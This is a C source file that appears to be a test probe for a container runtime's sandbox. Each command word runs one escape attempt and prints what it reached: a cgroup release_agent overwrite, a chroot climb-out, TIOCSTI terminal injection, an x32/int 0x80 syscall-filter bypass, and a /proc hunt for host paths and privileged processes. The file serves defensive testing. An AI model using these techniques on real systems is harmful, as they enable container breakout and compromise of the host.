/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile program in a container tries, one attack a word. Static, so that it runs in any root file system. Each attack prints
 * what it reached; the tests know what may be printed.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/tiocl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static unsigned number(const char *text)
{
        unsigned value = 0;

        (void)sscanf(text, "%u", &value);
        return value;
}

static const char *errno_text(long r)
{
        return r < 0 ? strerrorname_np(errno) : "done";
}

/* user: who the program is; a set-user-ID file tells whether it gained anything. */
static int user(char **args)
{
        (void)args;
        printf("%d %d\n", getuid(), geteuid());
        return 0;
}

/* with-key NAME COMMAND...: a new session keyring with a key in it, then the command. */
static int with_key(char **args)
{
        if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
            syscall(SYS_add_key, "user", args[0], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0) {
                perror("with-key");
                return 1;
        }
        (void)execvp(args[1], args + 1);
        return 127;
}

/* add-user-key NAME: a key in the keyring that all of the user's processes share; prints its number. */
static int add_user_key(char **args)
{
        long key = syscall(SYS_add_key, "user", args[0], "secret", 6, KEY_SPEC_USER_KEYRING);

        if (key < 0) {
                perror("add-user-key");
                return 1;
        }
        printf("%ld\n", key);
        return 0;
}

/* remove-user-key NUMBER */
static int remove_user_key(char **args)
{
        if (syscall(SYS_keyctl, KEYCTL_UNLINK, number(args[0]), KEY_SPEC_USER_KEYRING) == 0)
                return 0;
        perror("remove-user-key");
        return 1;
}

/* find-key NAME: by the session, the user and the user's session keyring. */
static int find_key(char **args)
{
        const int rings[] = {KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING,
                             KEY_SPEC_PROCESS_KEYRING, KEY_SPEC_THREAD_KEYRING};

        for (size_t i = 0; i < sizeof(rings) / sizeof(rings[0]); i++)
                if (syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", args[0], 0) >= 0)
                        printf("found\n");
        if (syscall(SYS_request_key, "user", args[0], NULL, 0) >= 0)
                printf("found\n");
        printf("end\n");
        return 0;
}

#ifdef __x86_64__

/* mkdir-other-abi DIR: by the 32-bit gate and by an x32 number. The first ends the process where the filter kills it. */
static int mkdir_other_abi(char **args)
{
        char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        long r;

        if (low == MAP_FAILED)
                return 1;
        (void)snprintf(low, 4096, "%s80", args[0]);
        printf("begin\n");
        (void)fflush(stdout);
        r = syscall(SYS_mkdir | 0x40000000, args[0], 0755); /* __X32_SYSCALL_BIT */
        printf("x32 %s\n", errno_text(r));
        (void)fflush(stdout);
        __asm__ volatile("int $0x80"
                         : "=a"(r)
                         : "a"(39L), "b"((long)low), "c"(0755L)
                         : "memory", "r8", "r9", "r10", "r11");
        printf("int80 %s\n", r < 0 ? strerrorname_np((int)-r) : "done");
        return 0;
}

#endif

/* call NUMBER: what an unknown system call answers. */
static int call(char **args)
{
        printf("%s\n", errno_text(syscall((long)number(args[0]), 0, 0, 0, 0, 0, 0)));
        return 0;
}

/* ioctl-high: FIONREAD of a pipe, in the low half of a register whose high half is not empty. */
static int ioctl_high(char **args)
{
        int ends[2], count;

        (void)args;
        if (pipe(ends) < 0)
                return 1;
        printf("%s\n", errno_text(syscall(SYS_ioctl, ends[0], (1UL << 32) | FIONREAD, &count)));
        return 0;
}

/* mode-high: a file is made set-user-ID by a mode with a bit that umode_t has no room for. */
static int mode_high(char **args)
{
        int fd = memfd_create("file", 0);
        struct stat st;

        (void)args;
        if (fd < 0)
                return 1;
        printf("%s", errno_text(syscall(SYS_fchmod, fd, 0x10000UL | 04755)));
        printf("%s\n", fstat(fd, &st) == 0 && (st.st_mode & S_ISUID) != 0 ? ", set-user-ID" : "");
        return 0;
}

static long try_unshare_user(void)
{
        pid_t pid = fork();
        int status;

        if (pid == 0)
                _exit(unshare(CLONE_NEWUSER) < 0 ? errno : 0);
        if (waitpid(pid, &status, 0) < 0 || WEXITSTATUS(status) == 0)
                return 0;
        errno = WEXITSTATUS(status);
        return -1;
}

/* surface: parts of the kernel that a program hardly needs and that holes were found in. */
static int surface(char **args)
{
        char params[256] = {0}; /* all zero: what is refused for that is reached */
        long r;

        (void)args;
        printf("io_uring %s\n", errno_text(syscall(SYS_io_uring_setup, 1, params)));
        printf("userfaultfd %s\n", errno_text(syscall(SYS_userfaultfd, O_CLOEXEC)));
        r = syscall(SYS_bpf, 0 /* BPF_MAP_CREATE */, params, 0);
        printf("bpf %s\n", r < 0 && errno == EINVAL ? "done" : errno_text(r));
        printf("keyctl %s\n", errno_text(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0)));
        printf("perf_event_open %s\n", errno_text(syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0)));
        printf("alg %s\n", errno_text(socket(AF_ALG, SOCK_SEQPACKET, 0)));
        printf("vsock %s\n", errno_text(socket(AF_VSOCK, SOCK_STREAM, 0)));
        printf("nf_tables %s\n", errno_text(socket(AF_NETLINK, SOCK_RAW, 12 /* NETLINK_NETFILTER */)));
        printf("user namespace %s\n", errno_text(try_unshare_user()));
        return 0;
}

/* type-into TEXT: pushes it into every terminal at hand. */
static int type_into(char **args)
{
        const char *paths[] = {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0"};
        int fds[7] = {0, 1, 2};

        for (int i = 3; i < 7; i++)
                fds[i] = open(paths[i - 3], O_RDWR | O_NOCTTY | O_NONBLOCK);
        for (int i = 0; i < 7; i++) {
                char paste[] = {TIOCL_PASTESEL};

                if (fds[i] < 0)
                        continue;
                (void)ioctl(fds[i], TIOCSCTTY, 1);
                for (const char *c = args[0]; *c != '\0'; c++)
                        (void)ioctl(fds[i], TIOCSTI, c);
                (void)ioctl(fds[i], TIOCLINUX, paste);
        }
        return 0;
}

static void look_at_rights(const char *pid, unsigned long long own)
{
        char path[64], line[256];
        unsigned long long rights;
        FILE *status;

        (void)snprintf(path, sizeof(path), "/proc/%.16s/status", pid);
        status = fopen(path, "re");
        while (status != NULL && fgets(line, sizeof(line), status) != NULL)
                if ((sscanf(line, "CapPrm: %llx", &rights) == 1 || sscanf(line, "CapEff: %llx", &rights) == 1) &&
                    (rights & ~own) != 0)
                        printf("RIGHTS %s", line);
        if (status != NULL)
                (void)fclose(status);
}

/* A directory from which the marker of the host can be reached is not one of the container. */
static void look_at_directory(const char *path, const char *marker)
{
        int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        char up[4096];
        struct stat st;

        if (fd < 0)
                return;
        (void)snprintf(up, sizeof(up), "../../../../../../../../%s", marker);
        if (fstatat(fd, marker, &st, 0) == 0 || fstatat(fd, up, &st, 0) == 0)
                printf("HOST %s\n", path);
        (void)close(fd);
}

/* Who may open what a process runs may read and write its memory, too (ptrace(2)). Of the container's own programs that is no news. */
static void look_inside(const char *pid)
{
        static const char *const own[] = {"/proc/self/exe", "/bin/busybox"};
        char path[64], name[32] = "";
        struct stat theirs, st;
        static char last[32];
        FILE *comm;
        int fd;

        (void)snprintf(path, sizeof(path), "/proc/%.16s/exe", pid);
        fd = open(path, O_PATH | O_CLOEXEC);
        if (fd >= 0 && fstat(fd, &theirs) == 0 && (stat(own[0], &st) < 0 || st.st_ino != theirs.st_ino) &&
            (stat(own[1], &st) < 0 || st.st_ino != theirs.st_ino))
                printf("INSIDE %s\n", pid);
        if (fd >= 0)
                (void)close(fd);
        (void)snprintf(path, sizeof(path), "/proc/%.16s/comm", pid);
        comm = fopen(path, "re");
        /* "ward-oci", "memfd:ward" where it is a sealed copy; before Linux 6.14 what was executed by a descriptor has the number's name. */
        if (comm != NULL && fgets(name, sizeof(name), comm) != NULL && strcmp(pid, last) != 0 &&
            (strstr(name, "ward") != NULL || (name[0] >= '0' && name[0] <= '9'))) {
                printf("runtime %s\n", pid);
                (void)snprintf(last, sizeof(last), "%.16s", pid);
        }
        if (comm != NULL)
                (void)fclose(comm);
}

static void look_at(const char *pid, const char *marker, unsigned long long own)
{
        static const char *const links[] = {"root", "cwd"};
        struct dirent *entry;
        char path[64];
        DIR *fds;

        look_at_rights(pid, own);
        look_inside(pid);
        for (size_t i = 0; i < 2; i++) {
                (void)snprintf(path, sizeof(path), "/proc/%.16s/%s", pid, links[i]);
                look_at_directory(path, marker);
        }
        (void)snprintf(path, sizeof(path), "/proc/%.16s/fd", pid);
        fds = opendir(path);
        while (fds != NULL && (entry = readdir(fds)) != NULL) {
                (void)snprintf(path, sizeof(path), "/proc/%.16s/fd/%.8s", pid, entry->d_name);
                if (entry->d_name[0] != '.')
                        look_at_directory(path, marker);
        }
        if (fds != NULL)
                (void)closedir(fds);
}

static unsigned long long own_rights(void)
{
        unsigned long long bounding = 0;
        char line[256];
        FILE *status = fopen("/proc/self/status", "re");

        while (status != NULL && fgets(line, sizeof(line), status) != NULL)
                (void)sscanf(line, "CapBnd: %llx", &bounding);
        if (status != NULL)
                (void)fclose(status);
        return bounding;
}

/* hunt MARKER STOP: looks into every other process until the file STOP is there, then says how many it saw. MARKER: a path of the host,
 * relative to its root. */
static int hunt(char **args)
{
        unsigned long long own = own_rights();
        unsigned seen = 0;
        int self = getpid(), last = 0;

        (void)setvbuf(stdout, NULL, _IOLBF, 0);
        printf("ready\n");
        while (access(args[1], F_OK) < 0) {
                DIR *proc = opendir("/proc");
                struct dirent *entry;

                while (proc != NULL && (entry = readdir(proc)) != NULL) {
                        int pid = (int)number(entry->d_name);

                        if (pid <= 0 || pid == self || pid == getppid())
                                continue;
                        if (pid > last) {
                                last = pid;
                                seen++;
                        }
                        look_at(entry->d_name, args[0], own);
                }
                if (proc != NULL)
                        (void)closedir(proc);
        }
        printf("seen %u\n", seen);
        return 0;
}

/* device b|c MAJOR MINOR: makes a node for it and opens it, and the one that the image ships. */
static int device(char **args)
{
        dev_t rdev = makedev(number(args[1]), number(args[2]));
        int r = mknod("/tmp/made", (args[0][0] == 'b' ? S_IFBLK : S_IFCHR) | 0600, rdev);

        printf("mknod %s\n", errno_text(r));
        printf("open %s\n", errno_text(open("/tmp/made", O_RDONLY | O_NONBLOCK)));
        printf("shipped %s\n", errno_text(open("/shipped", O_RDONLY | O_NONBLOCK)));
        return 0;
}

/* release-agent: mounts every cgroup hierarchy anew in namespaces of its own, and writes the file that names a program of the host. */
static int release_agent(char **args)
{
        static const char *const names[] = {"cpu",     "cpuacct", "memory", "devices",
                                            "freezer", "pids",    "blkio",  "name=systemd"};

        (void)args;
        printf("unshare %s\n", errno_text(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)));
        for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
                int fd;

                if (mount("cgroup", "/tmp", "cgroup", 0, names[i]) < 0)
                        continue;
                fd = open("/tmp/release_agent", O_WRONLY);
                if (fd >= 0 && write(fd, "/ward-was-here", 14) >= 0)
                        printf("WRITTEN %s\n", names[i]);
                (void)umount2("/tmp", MNT_DETACH);
        }
        return 0;
}

/* mount-over PATH: a tmpfs on it, and a bind of a file where it is one. */
static int mount_over(char **args)
{
        int r = mount("tmpfs", args[0], "tmpfs", 0, NULL);

        if (r < 0 && errno == ENOTDIR)
                r = mount("/proc/self/exe", args[0], NULL, MS_BIND, NULL);
        printf("mount %s\n", errno_text(r));
        return 0;
}

/* climb PATH: out of the root by a chroot(2) into a directory of it, which leaves the working directory outside of the new root, where ".."
 * ends nowhere; prints what PATH, from the top, holds. */
static int climb(char **args)
{
        char text[256] = "";
        int fd;

        if (chroot("/proc") < 0) {
                printf("chroot: %s\n", errno_text(-1));
                return 0;
        }
        for (int i = 0; i < 100; i++)
                (void)chdir("..");
        while (args[0][0] == '/')
                args[0]++;
        fd = open(args[0], O_RDONLY);
        printf("climb: %s\n", fd < 0 || read(fd, text, sizeof(text) - 1) < 0 ? errno_text(-1) : text);
        return 0;
}

/* uncover PATH: takes away what is mounted on the root of the mount namespace, and goes to what lay below, again and again; prints what PATH
 * holds where there is one. */
static int uncover(char **args)
{
        int self = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
        char text[256] = "";

        for (int i = 0; i < 5; i++) {
                int fd, r = umount2("/", MNT_DETACH);

                printf("umount %s\n", errno_text(r));
                if (setns(self, CLONE_NEWNS) < 0) {
                        printf("setns %s\n", errno_text(-1));
                        return 0;
                }
                fd = open(args[0], O_RDONLY | O_CLOEXEC);
                if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0)
                        printf("uncovered: %s\n", text);
                if (r < 0)
                        return 0;
        }
        return 0;
}

static const struct {
        const char *name;
        int count;
        int (*run)(char **args);
} attacks[] = {
        {"user", 0, user},
        {"with-key", 2, with_key},
        {"add-user-key", 1, add_user_key},
        {"remove-user-key", 1, remove_user_key},
        {"find-key", 1, find_key},
#ifdef __x86_64__
        {"mkdir-other-abi", 1, mkdir_other_abi},
#endif
        {"call", 1, call},
        {"ioctl-high", 0, ioctl_high},
        {"mode-high", 0, mode_high},
        {"surface", 0, surface},
        {"type-into", 1, type_into},
        {"hunt", 2, hunt},
        {"device", 3, device},
        {"release-agent", 0, release_agent},
        {"mount-over", 1, mount_over},
        {"climb", 1, climb},
        {"uncover", 1, uncover},
};

int main(int argc, char **argv)
{
        for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
                if (strcmp(attacks[i].name, argv[1]) == 0 && argc - 2 >= attacks[i].count)
                        return attacks[i].run(argv + 2);
        (void)fprintf(stderr, "usage: probe ATTACK [ARGUMENT...]\n");
        return 2;
}
